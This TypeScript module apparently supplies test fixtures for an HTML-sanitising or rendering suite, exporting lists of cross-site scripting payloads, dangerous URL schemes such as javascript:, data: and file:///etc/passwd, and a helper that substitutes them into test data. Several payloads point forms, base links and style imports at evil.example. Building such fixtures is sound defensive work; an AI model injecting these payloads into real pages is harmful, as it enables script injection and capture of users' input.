// Words that want to be more than words, and the means to put them wherever others write.

/** Each breaks out of another place: of an element, an attribute, a script, a template, an address, a style. */
export const markup = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)' x='",
  '</textarea></title></style><svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}#{alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><input name=x>',
  '<style>@import "https://evil.example/x.css"</style>',
  '\u0000<\u0000script>alert(1)</script>',
] as const;

/** Addresses that run, read or lead where nobody asked to go. */
export const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
] as const;

/** What stands in `seen-things.ts` where somebody else's words, and somebody else's address, would. */
export const word = 'Plain';
export const address = 'https://plain.example/a';

/** The same thing, with other words and another address there. */
export function filled<T>(thing: T, given: { words?: string; address?: string }): T {
  if (typeof thing === 'string')
    return (
      thing === address ? (given.address ?? thing) : thing.replaceAll(word, () => given.words ?? word)
    ) as T;
  if (Array.isArray(thing)) return thing.map((each) => filled(each, given)) as T;
  if (thing instanceof Set || thing instanceof Blob || thing === null || typeof thing !== 'object')
    return thing;
  return Object.fromEntries(Object.entries(thing).map(([key, value]) => [key, filled(value, given)])) as T;
}
